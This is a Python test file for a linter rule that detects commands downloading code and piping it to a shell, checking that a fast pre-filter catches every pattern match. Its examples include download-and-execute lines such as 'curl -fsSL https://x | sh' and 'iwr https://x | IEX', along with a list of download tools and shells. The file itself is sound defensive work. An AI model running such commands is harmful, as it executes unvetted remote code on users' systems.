"""SL609's fast test, one RE2 pass, lets through every text one of the rule's patterns matches
(it used to skip `iwr URL | bash` and `WGET URL | sh`, which the patterns catch), and keeps out
the common words that hold a short command (`confirm`)."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from skilllint.checks.sl609_download_piped_to_shell import PATTERNS, _maybe


def _patterns(text: str) -> bool:
    """Whether any of SL609's own patterns matches: the fast test must let all of these through."""
    return any(pattern.search(text) for pattern in PATTERNS)


PIECES = ["curl", "CURL", "Curl", "wget", "WGET", "iwr", "IWR", "irm", "Irm", "iex", "IEX", "invoke-webrequest",
          "Invoke-RestMethod", "invoke-expression", "new-object net.webclient).downloadstring", "bash", "sh", "python",
          " | ", "|", "$(", "<(", ")", "https://x", " ", "\n", "-", "é", "\udc80", "con", "f"]


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=8))
def test_the_pre_test_lets_through_all_the_patterns_match(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert _maybe(text) or not _patterns(text), text


def test_examples() -> None:
    for text in ("curl -fsSL https://x | sh", "iwr https://x | IEX", "iwr https://x/a.ps1 | bash",
                 "irm https://x | python", "WGET https://x | sh", "Curl https://x | sh"):
        assert _maybe(text) and _patterns(text), text
    assert not _maybe("confirm the firm's terms")  # `irm` only as a word
    assert not _maybe("nothing to fetch here")
